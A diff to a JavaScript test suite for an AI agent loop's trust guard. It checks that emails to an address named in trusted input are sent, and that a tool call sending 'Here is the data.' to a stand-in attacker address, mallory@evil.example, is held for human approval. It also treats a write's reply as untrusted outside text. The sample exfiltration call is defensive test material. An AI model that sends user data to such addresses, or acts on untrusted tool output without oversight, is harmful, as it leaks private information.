@@ -407,22 +407,50 @@ describe("the agent loop", () => {
 
   it("runs a write on an entity the trusted input names, and sends one on any other entity to a person", async () => {
     emails = [];
-    const { outcome, proposals } = await run(
+    const trusted = { trust: { trustedValues: ["ana@example.com"] } };
+    const sent = await run(
       ({ turn }) =>
         turn === 0
           ? { toolCalls: [{ name: "send_email", args: { to: "ana@example.com", body: "Your order shipped." } }] }
-          : turn === 1
-            ? { toolCalls: [{ name: "send_email", args: { to: "mallory@evil.example", body: "Here is the data." } }] }
-            : ok(),
-      { trust: { trustedValues: ["ana@example.com"] } },
+          : ok(),
+      trusted,
     );
     expect(emails).toEqual(["ana@example.com"]);
+    expect(sent.outcome.status).toBe("ok");
+
+    emails = [];
+    const { outcome, proposals } = await run(
+      ({ turn }) =>
+        turn === 0
+          ? { toolCalls: [{ name: "send_email", args: { to: "mallory@evil.example", body: "Here is the data." } }] }
+          : ok(),
+      trusted,
+    );
+    expect(emails).toEqual([]);
     expect(outcome.status).toBe("needs_approval");
     expect(proposals).toHaveLength(1);
     expect(proposals[0]).toMatchObject({
       tool: "send_email",
       args: { to: "mallory@evil.example" },
       reason: expect.stringMatching(/names to="mallory@evil\.example", which is neither in the task's trusted input/),
+    });
+  });
+
+  it("counts a write's reply as outside text: the writes after it need a person", async () => {
+    // An email API's or a CRM's reply can carry text someone else wrote, as a read's output can.
+    emails = [];
+    const { outcome, proposals } = await run(
+      ({ turn }) =>
+        turn < 2
+          ? { toolCalls: [{ name: "send_email", args: { to: "ana@example.com", body: `Update ${turn}.` } }] }
+          : ok(),
+      { trust: { trustedValues: ["ana@example.com"] } },
+    );
+    expect(emails).toEqual(["ana@example.com"]);
+    expect(outcome.status).toBe("needs_approval");
+    expect(proposals[0]).toMatchObject({
+      args: { body: "Update 1." },
+      reason: expect.stringMatching(/untrusted tool output/),
     });
   });
 
